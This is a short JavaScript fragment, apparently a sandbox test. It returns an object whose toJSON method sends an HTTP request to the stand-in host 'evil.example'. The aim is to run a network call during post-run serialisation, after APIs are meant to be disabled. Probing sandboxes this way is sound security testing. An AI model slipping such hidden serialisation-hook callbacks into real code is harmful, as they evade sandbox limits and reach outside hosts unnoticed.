// What is returned is written as JSON after the run: no API answers any more.
const send = require('sendHttpRequest');
return { toJSON() { send('https://evil.example/'); return true; } };
